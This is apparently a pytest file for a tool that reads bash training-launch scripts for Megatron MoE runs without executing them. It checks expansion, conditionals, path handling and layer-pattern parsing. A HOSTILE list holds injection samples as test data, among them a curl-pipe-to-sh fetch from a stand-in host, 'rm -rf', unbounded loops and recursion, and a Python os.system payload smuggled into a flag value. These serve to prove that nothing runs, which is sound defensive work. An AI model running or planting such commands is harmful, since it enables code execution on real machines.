"""Shell scripts are followed over known values, and nothing of them ever runs."""

from pathlib import Path

import pytest

from moeopt.errors import InputError
from moeopt.readers.patterns import read_pattern
from moeopt.readers.shell import interpret


def words(text: str, *arguments: str, **given: str) -> list[str]:
    """The words of the last command."""
    script = interpret(text, "t.sh", arguments, given)
    return [script.unknowns.seen(word) or "?" for word in script.commands[-1].words]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("A=3\nrun $A ${A} \"$A\" '$A'", ["run", "3", "3", "3", "$A"]),
        ("A='x y'\nrun $A \"$A\"", ["run", "x", "y", "x y"]),
        ("A=(--a 1 # comment\n --b '2 3'\n)\nA+=(--c)\nrun ${A[@]}", ["run", "--a", "1", "--b", "2", "3", "--c"]),
        ("A=(--b '2 3')\nrun \"${A[@]}\"", ["run", "--b", "2 3"]),
        ("run ${X:-7} ${X:+8} ${X-9}", ["run", "7", "9"]),
        ("N=$((4*(2+1)))\nrun $((N/5)) $((N>2?1:0)) $((N%5))", ["run", "2", "1", "2"]),
        ("A=1 \\\n\nrun \\\n  --x $A \\\n  --y", ["run", "--x", "1", "--y"]),
        ("X=a.b.c\nrun ${X%.*} ${X%%.*} ${X##*.} ${#X}", ["run", "a.b", "a", "c", "5"]),
        ('O=" --a 1 \\\n --b \'([1]*4)\'"\nC="run ${O}"\neval ${C}', ["run", "--a", "1", "--b", "([1]*4)"]),
        ("f() { run $1 $2; }\nf a b", ["run", "a", "b"]),
        ('bash -c "run --x 1"', ["run", "--x", "1"]),
        (
            "a=()\nfor ((i=0;i<4;i++)); do if (( i<1 )); then a+=(0); else a+=(1); fi; done\n"
            "printf -v F '[%s]' \"$(IFS=','; echo \"${a[*]}\")\"\nrun $F",
            ["run", "[0,1,1,1]"],
        ),
        ('for i in $(seq 1 3); do L="$L$i"; done\nrun $L', ["run", "123"]),
    ],
)
def test_words_become_what_a_shell_makes_of_them(text: str, expected: list[str]) -> None:
    """Quotes, splitting, defaults, arithmetic, arrays, functions and `eval` give the words that bash gives."""
    assert words(text) == expected


@pytest.mark.parametrize(
    ("condition", "taken"),
    [
        ('[ "$1" = big ]', True),
        ("[[ $1 == b* ]]", True),
        ('[ $N -gt 2 ] && [ -n "$1" ]', True),
        ("[ -z ${UNSET} ]", True),
        ("[ $N -eq 2 ] || [ $1 != big ]", False),
        ("(( N >= 3 ))", True),
        ("! [ $N -eq 3 ]", False),
    ],
)
def test_conditions_over_known_values_are_decided(condition: str, taken: bool) -> None:
    """A test whose words are known takes the branch that a shell takes."""
    text = f"N=3\nif {condition}; then run yes; else run no; fi"
    assert words(text, "big") == ["run", "yes" if taken else "no"]


def test_what_an_unknown_condition_assigns_is_unknown_and_not_guessed() -> None:
    """After a file test both branches are possible, so the variable that they set has no value."""
    script = interpret("TP=1\nif [ -f x ]; then TP=8; fi\nrun --tp $TP", "t.sh")
    assert script.unknowns.seen(script.commands[-1].words[2]) is None


def test_case_and_options_of_the_script_are_followed() -> None:
    """`while [[ $# -gt 0 ]]; do case $1 in` reads the arguments that the script is given."""
    cases = "--tp) T=$2; shift 2;; -h|--help) exit 0;; *) shift;;"
    text = f"T=1\nwhile [[ $# -gt 0 ]]; do case $1 in {cases} esac; done\nrun $T"
    assert words(text, "--tp", "4", "other") == ["run", "4"]
    assert words(text) == ["run", "1"]


HOSTILE = [
    "TP=$(touch pwned; echo 8)\n{run} --tensor-model-parallel-size $TP",
    "TP=`touch pwned`\n{run} --tensor-model-parallel-size $TP",
    "{run} --tensor-model-parallel-size 1 --save $(touch pwned)",
    "{run} --tensor-model-parallel-size ${{X:-$(touch pwned)}}",
    'eval "$(curl http://x.invalid/a | sh)"\n{run} --tensor-model-parallel-size 1',
    "A=$(cat /etc/hostname > pwned)\n{run} --tensor-model-parallel-size 1",
    "cat <(touch pwned)\n{run} --tensor-model-parallel-size 1",
    "X=$(( $(touch pwned) + 1 ))\n{run} --tensor-model-parallel-size $X",
    "A=(1 $(rm -rf pwned))\n{run} --tensor-model-parallel-size ${{A[0]}}",
    "A=x\nfor i in $(seq 1 1000); do A=$A$A; done\n{run} --tensor-model-parallel-size 1",
    "while true; do :; done\n{run} --tensor-model-parallel-size 1",
    "f() {{ f; }}\nf\n{run} --tensor-model-parallel-size 1",
    "A=$(find . -exec touch pwned \\;)\n{run} --tensor-model-parallel-size 1",
    'A=$(python3 -c \'open("pwned","w")\')\n{run} --tensor-model-parallel-size 1',
    "A=$(echo `touch pwned`)\n{run} --tensor-model-parallel-size 1",
    "A=(" + "(" * 3000 + "\n{run}",
    "{run} --tensor-model-parallel-size 1 --moe-layer-freq '([1]*999999)*999999'",
    '{run} --tensor-model-parallel-size 1 --moe-layer-freq \'__import__("os").system("touch pwned")\'',
]
RUN = (
    "torchrun --nproc_per_node 8 pretrain_gpt.py --num-layers 4 --hidden-size 256 --num-attention-heads 4 --bf16 "
    "--num-experts 4 --vocab-size 1000 --seq-length 512 --max-position-embeddings 512 "
    "--micro-batch-size 1 --global-batch-size 8"
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_script_runs_nothing_and_ends_with_exit_2(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whatever a script tries, no file appears, no process starts, and the answer is one sentence with exit code 2."""
    from moeopt.__main__ import run

    monkeypatch.chdir(tmp_path)
    import os
    import subprocess

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a process was started")

    for module, name in ((subprocess, "Popen"), (os, "system"), (os, "posix_spawn")):
        monkeypatch.setattr(module, name, refuse)
    Path("evil.sh").write_text(text.format(run=RUN))
    assert run(["evaluate", "--from", "evil.sh"]) == 2
    assert [each.name for each in tmp_path.iterdir()] == ["evil.sh"]
    assert capsys.readouterr().err.startswith("error: ")


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ('dirname "$0"', "."),
        ("dirname a/b/c.sh", "a/b"),
        ("basename a/b/c.sh .sh", "c"),
        ("basename -s .sh a/b/c.sh", None),
        ("realpath --relative-to=x a", None),
        ("readlink -f a/../b", "b"),
        ("cd a/b && pwd", "a/b"),
        ("cd `dirname a/b/c.sh`; cd ../..; pwd", "."),
        ("cd a && ls", None),
        ("dirname $(hostname)/x", None),
    ],
)
def test_paths_are_rearranged_without_a_look_at_any_folder(command: str, text: str | None) -> None:
    """What only takes a path apart or joins it has a known value; with other options, or over unknown words, none."""
    script = interpret(f"D=$({command})\nrun --tp 2", "t.sh")
    value = script.variables["D"]
    assert isinstance(value, str)
    assert script.unknowns.seen(value) == text


def test_substitutions_that_only_read_leave_an_unknown_value() -> None:
    """`$(date)` in a path does not stop the reading; a number that needs one is refused with the reason."""
    script = interpret("D=$(date +%F)\nrun --save /x/$D --tp 2", "t.sh")
    assert script.unknowns.within(script.commands[-1].words[2])[0].reason.startswith("the command $(date")


@pytest.mark.parametrize("text", ["echo 'never closed", "if true; then\nrun", "A=(1 2", "case $1 in a) run", "run )"])
def test_broken_syntax_is_one_sentence_with_the_line(text: str) -> None:
    """A script that bash would not parse is refused, with its line."""
    with pytest.raises(InputError, match=r"t\.sh, line \d"):
        interpret(text, "t.sh")


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("1", 1),
        ("([0]*3+[1]*2)", (0, 0, 0, 1, 1)),
        ("[0,1]*2", (0, 1, 0, 1)),
        ("([1]+[0])*2", (1, 0, 1, 0)),
        ("[0, 1]", (0, 1)),
    ],
)
def test_layer_patterns_are_read_without_eval(text: str, value: object) -> None:
    """The notation that Megatron evaluates as Python gives the same list."""
    assert read_pattern(text, "--moe-layer-freq") == value


@pytest.mark.parametrize("text", ["([0]*3", "[0]*[1]", "x", "[[0]]", "[1]*99999", "(" * 500, "", "[0]+1"])
def test_other_patterns_are_refused(text: str) -> None:
    """Anything else is bad input."""
    with pytest.raises(InputError, match="moe-layer-freq"):
        read_pattern(text, "--moe-layer-freq")
